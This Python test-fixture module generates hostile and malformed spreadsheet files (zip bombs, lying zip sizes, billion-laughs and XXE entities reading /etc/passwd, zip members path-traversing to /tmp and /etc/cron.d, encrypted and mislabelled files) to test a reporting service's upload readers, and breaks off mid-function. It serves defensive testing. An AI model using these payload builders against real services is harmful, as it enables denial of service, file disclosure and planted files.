"""Builders for the hostile-file corpus: broken, malicious and absurd files, made from code at test time.

Nothing binary is committed: every file is written here with xlsxwriter, openpyxl, xlwt, raw zip/OLE bytes
or plain text. The zip and OLE (compound file) writers are deliberately minimal and permissive, so that a
case can lie about sizes, carry path-traversal member names, set the encryption flag or claim a
billion-cell sheet; the readers must refuse or accept each such file with a clear Chinese message.

Each builder writes one file under ``folder`` and returns its path. ``test_hostile_files.py`` submits them
through the real service (or the real ``roadsafe submit`` command for the heavy ones).
"""

from __future__ import annotations

import struct
import zipfile
import zlib
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from pathlib import Path
from xml.sax.saxutils import escape

from corpus import COUNTY_NAMES, F1_HEADER, f1_rows, f1_title

# --------------------------------------------------------------------------- the F1 table every case carries


def f1_grid(week: int = 5, rows=None) -> list[list[object]]:
    """The F1 form as offices fill it: title (with 第N周), unit line, header and the 15 county rows."""
    return [*f1_title(week), list(F1_HEADER), *(rows if rows is not None else f1_rows())]


F1_FIRST_DATA_ROW = 4  # Excel row of 浔阳区 in f1_grid()


# --------------------------------------------------------------------------- raw SpreadsheetML

NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
NS_R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
REL_NS = 'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"'
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
XML_DECL = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'


def col_letters(col: int) -> str:
    """0-based column → ``A``, ``Z``, ``AA`` … ``XFD``."""
    out = ""
    col += 1
    while col:
        col, rest = divmod(col - 1, 26)
        out = chr(65 + rest) + out
    return out


def ref(row: int, col: int) -> str:
    """0-based row and column → ``B7``."""
    return f"{col_letters(col)}{row + 1}"


def xml_text(text: str) -> str:
    return escape(text, {'"': "&quot;"})


def cell_xml(row: int, col: int, value: object) -> str:
    """One ``<c>``: a number as ``<v>``, text as an inline string, a ``("f", formula, cached)`` tuple as a
    formula (``cached`` None: no ``<v>`` at all)."""
    r = ref(row, col)
    if isinstance(value, tuple) and value and value[0] == "f":
        _, formula, cached = value
        v = "" if cached is None else f"<v>{xml_text(str(cached))}</v>"
        t = ' t="str"' if isinstance(cached, str) else ""
        return f'<c r="{r}"{t}><f>{xml_text(formula)}</f>{v}</c>'
    if isinstance(value, bool):
        return f'<c r="{r}" t="b"><v>{int(value)}</v></c>'
    if isinstance(value, int | float):
        return f'<c r="{r}"><v>{value!r}</v></c>'
    return f'<c r="{r}" t="inlineStr"><is><t xml:space="preserve">{xml_text(str(value))}</t></is></c>'


def sheet_xml(
    rows: Sequence[Sequence[object]],
    *,
    dimension: str | None = None,
    extra_cells: Iterable[tuple[int, int, object]] = (),
    prolog: str = "",
    merges: Sequence[str] = (),
) -> bytes:
    """A worksheet part. ``rows`` from A1 (``None`` = no cell); ``extra_cells`` (row, col, value) 0-based are
    placed wherever they fall (rows stay in ascending order, as the format requires)."""
    cells: dict[int, dict[int, object]] = {}
    for r, row in enumerate(rows):
        for c, value in enumerate(row):
            if value is not None:
                cells.setdefault(r, {})[c] = value
    for r, c, value in extra_cells:
        cells.setdefault(r, {})[c] = value
    body = []
    for r in sorted(cells):
        inner = "".join(cell_xml(r, c, cells[r][c]) for c in sorted(cells[r]))
        body.append(f'<row r="{r + 1}">{inner}</row>')
    dim = f'<dimension ref="{dimension}"/>' if dimension else ""
    merge = ""
    if merges:
        merge = f'<mergeCells count="{len(merges)}">' + "".join(f'<mergeCell ref="{m}"/>' for m in merges)
        merge += "</mergeCells>"
    text = f"{XML_DECL}{prolog}<worksheet {NS} {NS_R}>{dim}<sheetData>{''.join(body)}</sheetData>{merge}</worksheet>"
    return text.encode("utf-8")


@dataclass(frozen=True)
class SheetPart:
    name: str
    xml: bytes
    state: str = "visible"  # visible / hidden / veryHidden


def workbook_parts(
    sheets: Sequence[SheetPart],
    *,
    shared_strings: bytes | None = None,
    workbook_inner: str = "",
    workbook_prolog: str = "",
    extra_rels: Sequence[tuple[str, str, str, str]] = (),
    extra_parts: dict[str, bytes] | None = None,
    main_type: str = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
    extra_types: str = "",
) -> dict[str, bytes]:
    """The parts of a minimal .xlsx package (what Excel needs to open it, nothing more).

    ``extra_rels``: (id, type, target, target mode or '') added to the workbook relationships.
    """
    sheet_tags, rels, overrides = [], [], []
    for i, sheet in enumerate(sheets, 1):
        state = f' state="{sheet.state}"' if sheet.state != "visible" else ""
        sheet_tags.append(f'<sheet name="{xml_text(sheet.name)}" sheetId="{i}"{state} r:id="rId{i}"/>')
        rels.append(f'<Relationship Id="rId{i}" Type="{REL}/worksheet" Target="worksheets/sheet{i}.xml"/>')
        overrides.append(
            f'<Override PartName="/xl/worksheets/sheet{i}.xml" '
            'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
        )
    if shared_strings is not None:
        rels.append(f'<Relationship Id="rIdS" Type="{REL}/sharedStrings" Target="sharedStrings.xml"/>')
        overrides.append(
            '<Override PartName="/xl/sharedStrings.xml" '
            'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
        )
    for rid, kind, target, mode in extra_rels:
        tm = f' TargetMode="{mode}"' if mode else ""
        rels.append(f'<Relationship Id="{rid}" Type="{kind}" Target="{xml_text(target)}"{tm}/>')
    workbook = (
        f"{XML_DECL}{workbook_prolog}<workbook {NS} {NS_R}><sheets>{''.join(sheet_tags)}</sheets>"
        f"{workbook_inner}</workbook>"
    )
    parts = {
        "[Content_Types].xml": (
            f'{XML_DECL}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            f'<Override PartName="/xl/workbook.xml" ContentType="{main_type}"/>'
            f"{''.join(overrides)}{extra_types}</Types>"
        ).encode(),
        "_rels/.rels": (
            f'{XML_DECL}<Relationships {REL_NS}><Relationship Id="rId1" '
            f'Type="{REL}/officeDocument" Target="xl/workbook.xml"/></Relationships>'
        ).encode(),
        "xl/workbook.xml": workbook.encode("utf-8"),
        "xl/_rels/workbook.xml.rels": (
            f"{XML_DECL}<Relationships {REL_NS}>{''.join(rels)}</Relationships>"
        ).encode(),
    }
    for i, sheet in enumerate(sheets, 1):
        parts[f"xl/worksheets/sheet{i}.xml"] = sheet.xml
    if shared_strings is not None:
        parts["xl/sharedStrings.xml"] = shared_strings
    parts.update(extra_parts or {})
    return parts


def write_parts(path: Path, parts: dict[str, bytes]) -> Path:
    """An honest zip (zipfile, deflated) of ``parts``."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in parts.items():
            zf.writestr(name, data)
    return path


def f1_raw_xlsx(path: Path, rows=None, *, sheet: str = "Sheet1", **sheet_kw) -> Path:
    """The F1 form written as raw SpreadsheetML (inline strings) — the base of many cases."""
    xml = sheet_xml(f1_grid(rows=rows), **sheet_kw)
    return write_parts(path, workbook_parts([SheetPart(sheet, xml)]))


# --------------------------------------------------------------------------- a permissive zip writer


@dataclass
class RawMember:
    """One zip member as written, true or not: ``data`` are the stored (compressed) bytes."""

    name: str
    data: bytes
    crc: int
    size: int  # uncompressed size as declared
    method: int = zipfile.ZIP_DEFLATED
    flags: int = 0
    compressed_size: int | None = None  # as declared; default len(data)


def deflated(name: str, content: bytes, **kw) -> RawMember:
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = c.compress(content) + c.flush()
    return RawMember(name, data, zlib.crc32(content), len(content), **kw)


def zip_bytes(members: Sequence[RawMember]) -> bytes:
    """A zip archive of ``members`` exactly as given (names, flags, sizes and CRCs are not checked)."""
    out = bytearray()
    central = bytearray()
    for m in members:
        name = m.name.encode("utf-8")
        flags = m.flags | 0x800  # UTF-8 names
        csize = len(m.data) if m.compressed_size is None else m.compressed_size
        offset = len(out)
        out += struct.pack(
            "<IHHHHHIIIHH", 0x04034B50, 20, flags, m.method, 0, 0x21, m.crc, csize, m.size, len(name), 0
        )
        out += name + m.data
        central += struct.pack(
            "<IHHHHHHIIIHHHHHII",
            0x02014B50,
            20,
            20,
            flags,
            m.method,
            0,
            0x21,
            m.crc,
            csize,
            m.size,
            len(name),
            0,
            0,
            0,
            0,
            0,
            offset,
        )
        central += name
    n = len(members)
    out += central
    out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, n, n, len(central), len(out) - len(central), 0)
    return bytes(out)


def raw_xlsx(path: Path, parts: dict[str, bytes], replace: dict[str, RawMember] | None = None) -> Path:
    """Write ``parts`` with :func:`zip_bytes`; members named in ``replace`` are written as given instead."""
    replace = dict(replace or {})
    members = [replace.pop(name) if name in replace else deflated(name, data) for name, data in parts.items()]
    members += list(replace.values())
    path.write_bytes(zip_bytes(members))
    return path


def repeated_deflate(prefix: bytes, unit: bytes, repeats: int, suffix: bytes) -> tuple[bytes, int, int]:
    """A raw deflate stream of ``prefix + unit * repeats + suffix`` built without compressing it all:
    ``unit`` is compressed once after a full flush (which resets the compressor), so its bytes repeat.
    Returns (stream, crc32, uncompressed size)."""
    head = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = head.compress(prefix) + head.flush(zlib.Z_FULL_FLUSH)
    body = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = body.compress(unit) + body.flush(zlib.Z_FULL_FLUSH)
    tail = zlib.compressobj(9, zlib.DEFLATED, -15)
    last = tail.compress(suffix) + tail.flush(zlib.Z_FINISH)
    crc = zlib.crc32(prefix)
    for _ in range(repeats):
        crc = zlib.crc32(unit, crc)
    crc = zlib.crc32(suffix, crc)
    return first + block * repeats + last, crc, len(prefix) + len(unit) * repeats + len(suffix)


def bomb_sheet(filler_unit: bytes, repeats: int) -> tuple[bytes, int, int]:
    """The F1 sheet followed by ``filler_unit * repeats`` inside ``<sheetData>``, as a deflate stream."""
    whole = sheet_xml(f1_grid()).decode()
    head, _, tail = whole.partition("</sheetData>")
    return repeated_deflate(head.encode(), filler_unit, repeats, ("</sheetData>" + tail).encode())


# --------------------------------------------------------------------------- a minimal OLE compound file

_FREESECT, _ENDOFCHAIN, _FATSECT = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD


def _dir_entry(name: str, kind: int, start: int, size: int, left=_FREESECT, right=_FREESECT, child=_FREESECT):
    raw = (name + "\x00").encode("utf-16-le") if name else b""
    return (
        raw.ljust(64, b"\x00")
        + struct.pack("<HBB", len(raw), kind, 1)
        + struct.pack("<III", left, right, child)
        + b"\x00" * 16  # CLSID
        + struct.pack("<I", 0)  # state bits
        + b"\x00" * 16  # times
        + struct.pack("<IQ", start, size)
    )


def ole_bytes(streams: Sequence[tuple[str, bytes]]) -> bytes:
    """A version-3 compound file holding ``streams`` (each padded to at least 4096 bytes so that no mini
    stream is needed; at most three streams, sorted as the format orders names)."""
    assert 1 <= len(streams) <= 3
    streams = sorted(
        ((n, d.ljust(4096, b"\x00")) for n, d in streams), key=lambda s: (len(s[0]), s[0].upper())
    )
    fat = [_FATSECT, _ENDOFCHAIN]  # sector 0: the FAT, sector 1: the directory
    starts = []
    for _, data in streams:
        count = -(-len(data) // 512)
        start = len(fat)
        starts.append(start)
        fat += [start + i + 1 for i in range(count - 1)] + [_ENDOFCHAIN]
    assert len(fat) <= 128, "one FAT sector only"
    fat += [_FREESECT] * (128 - len(fat))
    entries = [_dir_entry("Root Entry", 5, _ENDOFCHAIN, 0, child=1)]
    for i, ((name, data), start) in enumerate(zip(streams, starts, strict=True), 1):
        right = i + 1 if i < len(streams) else _FREESECT  # a right-leaning chain in name order
        entries.append(_dir_entry(name, 2, start, len(data), right=right))
    while len(entries) < 4:
        entries.append(_dir_entry("", 0, _FREESECT, 0))
    header = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + b"\x00" * 16
        + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
        + b"\x00" * 6
        + struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, _ENDOFCHAIN, 0, _ENDOFCHAIN, 0)
        + struct.pack("<I", 0)
        + struct.pack("<108I", *([_FREESECT] * 108))
    )
    assert len(header) == 512
    body = struct.pack("<128I", *fat) + b"".join(entries)
    for _, data in streams:
        body += data.ljust(-(-len(data) // 512) * 512, b"\x00")
    return header + body


def encrypted_ooxml_bytes() -> bytes:
    """What Excel writes for a password-protected .xlsx: an OLE container with the ECMA-376 agile
    ``EncryptionInfo`` and the ciphertext ``EncryptedPackage`` (random-looking here)."""
    info = struct.pack("<HHI", 4, 4, 0x40) + (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n'
        b'<encryption xmlns="http://schemas.microsoft.com/office/2006/encryption">'
        b'<keyData saltSize="16" blockSize="16" keyBits="256" hashSize="64" cipherAlgorithm="AES" '
        b'cipherChaining="ChainingModeCBC" hashAlgorithm="SHA512" saltValue="AAAAAAAAAAAAAAAAAAAAAA=="/>'
        b"</encryption>"
    )
    package = struct.pack("<Q", 6000) + bytes((i * 151 + 7) % 256 for i in range(6000))
    return ole_bytes([("EncryptionInfo", info), ("EncryptedPackage", package)])


def biff_record(kind: int, data: bytes = b"") -> bytes:
    return struct.pack("<HH", kind, len(data)) + data


def password_xls_bytes() -> bytes:
    """A BIFF8 workbook whose globals start with FILEPASS (RC4): what Excel 97-2003 writes with a
    password to open."""
    bof = biff_record(0x0809, struct.pack("<HHHHII", 0x0600, 0x0005, 0x1FD1, 1997, 0, 0x06))
    filepass = biff_record(0x002F, struct.pack("<HHH", 1, 1, 1) + bytes(range(48)))
    return ole_bytes([("Workbook", bof + filepass + biff_record(0x000A))])


def doc_like_ole_bytes() -> bytes:
    """An OLE container that is no workbook (a Word 97 document's streams)."""
    return ole_bytes([("WordDocument", b"\xec\xa5" + b"\x00" * 600), ("1Table", b"\x00" * 100)])


# --------------------------------------------------------------------------- other formats' magic bytes

PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n" + b"%\xe2\xe3\xcf\xd3\n" * 40 + b"%%EOF\n"
PNG = bytes.fromhex("89504e470d0a1a0a0000000d4948445200000001000000010806000000") + bytes(range(200))
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01" + bytes(range(256)) * 2 + b"\xff\xd9"
GIF = b"GIF89a\x01\x00\x01\x00\x80\x00\x00" + bytes(range(256)) + b"\x00;"
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + bytes(range(256)) * 3


def html_table_xls(rows: Sequence[Sequence[object]]) -> bytes:
    """What many web systems export as ".xls": an HTML table."""
    body = "".join("<tr>" + "".join(f"<td>{'' if v is None else v}</td>" for v in r) + "</tr>" for r in rows)
    return (
        '<html xmlns:x="urn:schemas-microsoft-com:office:excel"><head><meta charset="utf-8"></head>'
        f"<body><table>{body}</table></body></html>"
    ).encode()


def csv_text(rows: Sequence[Sequence[object]]) -> str:
    """Rows as CSV text (CRLF), quoting cells with a comma, quote or line break."""

    def cell(v: object) -> str:
        s = "" if v is None else str(v)
        if any(ch in s for ch in ',"\r\n'):
            s = '"' + s.replace('"', '""') + '"'
        return s

    return "".join(",".join(cell(v) for v in row) + "\r\n" for row in rows)


# --------------------------------------------------------------------------- the cases

F4_UNIT = "浔阳区"
F9_UNIT = "市公路发展中心"


@dataclass(frozen=True)
class Built:
    """A written case file and how it is submitted (as a unit would: unit, optional form/week/name)."""

    path: Path
    unit: str = "市公安局"
    form: str | None = None
    period: int | None = None
    original_name: str | None = None

    @property
    def name(self) -> str:
        return self.original_name or self.path.name


def _f4_grid(rows) -> list[list[object]]:
    from corpus import F4_HEADER

    return [["道路交通隐患排查整治台账（第5周）"], [f"填报单位：{F4_UNIT}"], list(F4_HEADER), *rows]


def _f4_row(no: int, **kw) -> list[object]:
    from corpus import f4_row

    return f4_row(no, **kw)


def _xlsxwriter(path: Path, rows, *, sheet: str = "Sheet1", options=None) -> Path:
    import xlsxwriter

    wb = xlsxwriter.Workbook(str(path), options or {"strings_to_formulas": False})
    ws = wb.add_worksheet(sheet)
    for r, row in enumerate(rows):
        for c, value in enumerate(row):
            if value is None:
                continue
            if isinstance(value, str):
                ws.write_string(r, c, value)
            else:
                ws.write_number(r, c, value)
    wb.close()
    return path


# ---- not a workbook at all


def zero_byte_csv(d: Path) -> Built:
    (d / "F1.csv").write_bytes(b"")
    return Built(d / "F1.csv", period=5)


def zero_byte_xls(d: Path) -> Built:
    (d / "F1.xls").write_bytes(b"")
    return Built(d / "F1.xls", period=5)


def pdf_named_xlsx(d: Path) -> Built:
    (d / "F1.xlsx").write_bytes(PDF)
    return Built(d / "F1.xlsx", period=5)


def zip_archive_named_xlsx(d: Path) -> Built:
    with zipfile.ZipFile(d / "F1.xlsx", "w") as zf:
        zf.writestr("F1.csv", csv_text(f1_grid()))
    return Built(d / "F1.xlsx", period=5)


def jpeg_named_xls(d: Path) -> Built:
    (d / "F1.xls").write_bytes(JPEG)
    return Built(d / "F1.xls", period=5)


def gif_named_csv(d: Path) -> Built:
    (d / "F1.csv").write_bytes(GIF)
    return Built(d / "F1.csv", period=5)


def exe_named_xlsx(d: Path) -> Built:
    (d / "F1.xlsx").write_bytes(EXE)
    return Built(d / "F1.xlsx", period=5)


def ods_named_xlsx(d: Path) -> Built:
    with zipfile.ZipFile(d / "F1.xlsx", "w") as zf:
        zf.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        zf.writestr("content.xml", "<office:document-content/>")
    return Built(d / "F1.xlsx", period=5)


def html_named_xls(d: Path) -> Built:
    (d / "F1.xls").write_bytes(html_table_xls(f1_grid()))
    return Built(d / "F1.xls", period=5)


def xml2003_named_xls(d: Path) -> Built:
    rows = "".join(
        "<Row>" + "".join(f'<Cell><Data ss:Type="String">{v}</Data></Cell>' for v in row) + "</Row>"
        for row in [F1_HEADER, [COUNTY_NAMES[0], "1", "1", "1", "1", "1"]]
    )
    (d / "F1.xls").write_text(
        '<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?>'
        '<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet" '
        'xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet">'
        f'<Worksheet ss:Name="Sheet1"><Table>{rows}</Table></Worksheet></Workbook>',
        encoding="utf-8",
    )
    return Built(d / "F1.xls", period=5)


# ---- broken workbooks


def xlsx_cut_in_half(d: Path) -> Built:
    from corpus import write_xlsx

    whole = write_xlsx(d / "whole.xlsx", f1_grid()).read_bytes()
    (d / "F1.xlsx").write_bytes(whole[: len(whole) // 2])
    return Built(d / "F1.xlsx", period=5)


def xls_cut_in_half(d: Path) -> Built:
    from corpus import write_xls

    whole = write_xls(d / "whole.xls", f1_grid()).read_bytes()
    (d / "F1.xls").write_bytes(whole[: len(whole) // 2])
    return Built(d / "F1.xls", period=5)


def xlsx_without_sheets(d: Path) -> Built:
    return Built(write_parts(d / "F1.xlsx", workbook_parts([])), period=5)


def xlsx_sheet_part_missing(d: Path) -> Built:
    parts = workbook_parts([SheetPart("Sheet1", sheet_xml(f1_grid()))])
    del parts["xl/worksheets/sheet1.xml"]
    return Built(write_parts(d / "F1.xlsx", parts), period=5)


def xlsx_malformed_sheet_xml(d: Path) -> Built:
    xml = sheet_xml(f1_grid())
    return Built(
        write_parts(d / "F1.xlsx", workbook_parts([SheetPart("Sheet1", xml[: len(xml) // 2])])), period=5
    )


def encrypted_xlsx(d: Path) -> Built:
    (d / "F1.xlsx").write_bytes(encrypted_ooxml_bytes())
    return Built(d / "F1.xlsx", period=5)


def encrypted_xlsx_named_xls(d: Path) -> Built:
    (d / "F1.xls").write_bytes(encrypted_ooxml_bytes())
    return Built(d / "F1.xls", period=5)


def password_xls(d: Path) -> Built:
    (d / "F1.xls").write_bytes(password_xls_bytes())
    return Built(d / "F1.xls", period=5)


def word_doc_named_xls(d: Path) -> Built:
    (d / "F1.xls").write_bytes(doc_like_ole_bytes())
    return Built(d / "F1.xls", period=5)


def zip_encrypted_member(d: Path) -> Built:
    parts = workbook_parts([SheetPart("Sheet1", sheet_xml(f1_grid()))])
    member = deflated("xl/worksheets/sheet1.xml", parts["xl/worksheets/sheet1.xml"], flags=0x1)
    return Built(raw_xlsx(d / "F1.xlsx", parts, {"xl/worksheets/sheet1.xml": member}), period=5)


def zip_unknown_compression(d: Path) -> Built:
    parts = workbook_parts([SheetPart("Sheet1", sheet_xml(f1_grid()))])
    member = deflated("xl/worksheets/sheet1.xml", parts["xl/worksheets/sheet1.xml"], method=14)  # LZMA
    return Built(raw_xlsx(d / "F1.xlsx", parts, {"xl/worksheets/sheet1.xml": member}), period=5)


def zip_path_traversal(d: Path) -> Built:
    parts = workbook_parts([SheetPart("Sheet1", sheet_xml(f1_grid()))])
    parts["../../../../tmp/roadsafe-evil.sh"] = b"#!/bin/sh\necho pwned\n"
    parts["/etc/cron.d/roadsafe-evil"] = b"* * * * * root true\n"
    return Built(raw_xlsx(d / "F1.xlsx", parts))


def zip_duplicate_members(d: Path) -> Built:
    parts = workbook_parts([SheetPart("Sheet1", sheet_xml(f1_grid()))])
    decoy = deflated("xl/worksheets/sheet1.xml", sheet_xml(f1_grid(rows=f1_rows(bump=1000))))
    members = [deflated(n, data) for n, data in parts.items()] + [decoy]
    (d / "F1.xlsx").write_bytes(zip_bytes(members))
    return Built(d / "F1.xlsx")


def zip_many_members(d: Path, count: int = 20_000) -> Built:
    parts = workbook_parts([SheetPart("Sheet1", sheet_xml(f1_grid()))])
    members = [deflated(n, data) for n, data in parts.items()]
    junk = RawMember("", b"", 0, 0, method=zipfile.ZIP_STORED)
    members += [RawMember(f"xl/media/p{i}.bin", junk.data, 0, 0, method=0) for i in range(count)]
    (d / "F1.xlsx").write_bytes(zip_bytes(members))
    return Built(d / "F1.xlsx")


# ---- decompression bombs and lying sizes (heavy: run in a subprocess)

_ROW_UNIT = b"<row><c><v>0</v></c></row>"


def zip_bomb_sheet(d: Path, gib: float = 1.0) -> Built:
    unit = _ROW_UNIT * ((1 << 20) // len(_ROW_UNIT))
    data, crc, size = bomb_sheet(unit, int(gib * 1024))
    parts = workbook_parts([SheetPart("Sheet1", b"")])
    member = RawMember("xl/worksheets/sheet1.xml", data, crc, size)
    return Built(raw_xlsx(d / "F1.xlsx", parts, {"xl/worksheets/sheet1.xml": member}))


def zip_bomb_shared_strings(d: Path, gib: float = 1.0) -> Built:
    unit = b"<si><t>x</t></si>" * ((1 << 20) // 17)
    data, crc, size = repeated_deflate(
        f'{XML_DECL}<sst {NS} count="1" uniqueCount="1">'.encode(), unit, int(gib * 1024), b"</sst>"
    )
    parts = workbook_parts([SheetPart("Sheet1", sheet_xml(f1_grid()))], shared_strings=b"")
    member = RawMember("xl/sharedStrings.xml", data, crc, size)
    return Built(raw_xlsx(d / "F1.xlsx", parts, {"xl/sharedStrings.xml": member}))


def zip_size_lie_small(d: Path) -> Built:
    """The sheet declares 4 KB uncompressed but inflates to 256 MiB (and the CRC is of the first 4 KB)."""
    unit = _ROW_UNIT * ((1 << 20) // len(_ROW_UNIT))
    data, _, size = bomb_sheet(unit, 256)
    whole_head = sheet_xml(f1_grid()).decode().partition("</sheetData>")[0].encode() + unit
    member = RawMember("xl/worksheets/sheet1.xml", data, zlib.crc32(whole_head[:4096]), 4096)
    parts = workbook_parts([SheetPart("Sheet1", b"")])
    return Built(raw_xlsx(d / "F1.xlsx", parts, {"xl/worksheets/sheet1.xml": member}))


def zip_size_lie_plausible(d: Path) -> Built:
    """The sheet declares three times its compressed size (a normal ratio) but inflates to 512 MiB: ten
    million rows that a reader trusting the header would turn into cells."""
    unit = _ROW_UNIT * ((1 << 20) // len(_ROW_UNIT))
    data, _, _ = bomb_sheet(unit, 512)
    declared = 3 * len(data)
    prefix = sheet_xml(f1_grid()).decode().partition("</sheetData>")[0].encode()
    stream = prefix + unit * (declared // len(unit) + 1)
    member = RawMember("xl/worksheets/sheet1.xml", data, zlib.crc32(stream[:declared]), declared)
    parts = workbook_parts([SheetPart("Sheet1", b"")])
    return Built(raw_xlsx(d / "F1.xlsx", parts, {"xl/worksheets/sheet1.xml": member}))


# ---- absurd dimensions


def dimension_claims_whole_sheet(d: Path) -> Built:
    return Built(f1_raw_xlsx(d / "F1.xlsx", dimension="A1:XFD1048576"))


def far_corner_cell(d: Path) -> Built:
    return Built(f1_raw_xlsx(d / "F1.xlsx", extra_cells=[(1048575, 16383, "x")], dimension="A1:XFD1048576"))


def far_row_cell(d: Path) -> Built:
    return Built(f1_raw_xlsx(d / "F1.xlsx", extra_cells=[(1048575, 7, "备用")]))


def far_column_cell(d: Path) -> Built:
    return Built(f1_raw_xlsx(d / "F1.xlsx", extra_cells=[(0, 16383, "备用")]))


def row_beyond_excel(d: Path) -> Built:
    xml = sheet_xml(f1_grid()).replace(
        b"</sheetData>", b'<row r="4000000000"><c><v>1</v></c></row></sheetData>'
    )
    return Built(write_parts(d / "F1.xlsx", workbook_parts([SheetPart("Sheet1", xml)])))


def column_beyond_excel(d: Path) -> Built:
    xml = sheet_xml(f1_grid()).replace(
        b"</sheetData>", b'<row r="30"><c r="ZZZZ30"><v>1</v></c></row></sheetData>'
    )
    return Built(write_parts(d / "F1.xlsx", workbook_parts([SheetPart("Sheet1", xml)])))


def shared_strings_count_lie(d: Path) -> Built:
    grid = f1_grid()
    strings: list[str] = []
    rows_xml = []
    for r, row in enumerate(grid):
        cells = []
        for c, v in enumerate(row):
            if v is None:
                continue
            if isinstance(v, str):
                strings.append(v)
                cells.append(f'<c r="{ref(r, c)}" t="s"><v>{len(strings) - 1}</v></c>')
            else:
                cells.append(f'<c r="{ref(r, c)}"><v>{v}</v></c>')
        rows_xml.append(f'<row r="{r + 1}">{"".join(cells)}</row>')
    sheet = f"{XML_DECL}<worksheet {NS}><sheetData>{''.join(rows_xml)}</sheetData></worksheet>".encode()
    sst = (
        f'{XML_DECL}<sst {NS} count="2000000000" uniqueCount="2000000000">'
        + "".join(f"<si><t>{xml_text(s)}</t></si>" for s in strings)
        + "</sst>"
    ).encode()
    return Built(write_parts(d / "F1.xlsx", workbook_parts([SheetPart("Sheet1", sheet)], shared_strings=sst)))


# ---- XML entities

LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY lol "lollollollollollollollollollol">'
    + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10)
    )
    + "]>"
)


def billion_laughs_shared_strings(d: Path) -> Built:
    sheet = sheet_xml(f1_grid()).replace(
        b"</sheetData>", b'<row r="25"><c r="H25" t="s"><v>0</v></c></row></sheetData>'
    )
    sst = f'{XML_DECL}{LAUGHS}<sst {NS} count="1" uniqueCount="1"><si><t>&lol9;</t></si></sst>'.encode()
    return Built(write_parts(d / "F1.xlsx", workbook_parts([SheetPart("Sheet1", sheet)], shared_strings=sst)))


def billion_laughs_sheet(d: Path) -> Built:
    grid = f1_grid()
    grid[0] = ["&lol9;"]  # becomes an entity reference once the escaping is undone below
    xml = sheet_xml(grid, prolog=LAUGHS).replace(b"&amp;lol9;", b"&lol9;")
    return Built(write_parts(d / "F1.xlsx", workbook_parts([SheetPart("Sheet1", xml)])), period=5)


def billion_laughs_workbook(d: Path) -> Built:
    parts = workbook_parts([SheetPart("Sheet1", sheet_xml(f1_grid()))], workbook_prolog=LAUGHS)
    parts["xl/workbook.xml"] = parts["xl/workbook.xml"].replace(b'name="Sheet1"', b'name="&lol9;"')
    return Built(write_parts(d / "F1.xlsx", parts))


def external_entity(d: Path) -> Built:
    dtd = '<!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    grid = f1_grid()
    sheet = sheet_xml(grid).replace(
        b"</sheetData>", b'<row r="25"><c r="A25" t="s"><v>0</v></c></row></sheetData>'
    )
    sst = f'{XML_DECL}{dtd}<sst {NS} count="1" uniqueCount="1"><si><t>&xxe;</t></si></sst>'.encode()
    return Built(write_parts(d / "F1.xlsx", workbook_parts([SheetPart("Sheet1", sheet)], shared_strings=sst)))


# ---- formulas, links, macros


def _formula_rows(cached: bool) -> list[list[object]]:
    """F1 rows whose 重点车辆总数 is ``=C+10`` (应检验数 + 10): with or without the cached result."""
    rows = f1_rows()
    for i, row in enumerate(rows):
        r = F1_FIRST_DATA_ROW + i
        row[1] = ("f", f"C{r}+10", row[2] + 10 if cached else None)
    return rows


def formulas_with_cached_values(d: Path) -> Built:
    return Built(f1_raw_xlsx(d / "F1.xlsx", rows=_formula_rows(cached=True)))


def formulas_without_cached_values(d: Path) -> Built:
    import openpyxl

    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Sheet1"
    for r, row in enumerate(f1_grid(), 1):
        for c, value in enumerate(row, 1):
            if value is not None:
                ws.cell(r, c, value)
    for r in range(F1_FIRST_DATA_ROW, F1_FIRST_DATA_ROW + len(COUNTY_NAMES)):
        ws.cell(r, 2, f"=C{r}+10")
    wb.save(d / "F1.xlsx")
    return Built(d / "F1.xlsx")


def formulas_calc_on_load(d: Path) -> Built:
    """xlsxwriter writes formulas with a placeholder result 0 and asks Excel to recalculate on opening."""
    import xlsxwriter

    wb = xlsxwriter.Workbook(str(d / "F1.xlsx"))
    ws = wb.add_worksheet("Sheet1")
    for r, row in enumerate(f1_grid()):
        for c, value in enumerate(row):
            if value is not None:
                ws.write(r, c, value)
    for i in range(len(COUNTY_NAMES)):
        r = F1_FIRST_DATA_ROW + i
        ws.write_formula(r - 1, 1, f"=C{r}+10")
    wb.close()
    return Built(d / "F1.xlsx")


def shared_formulas_without_values(d: Path) -> Built:
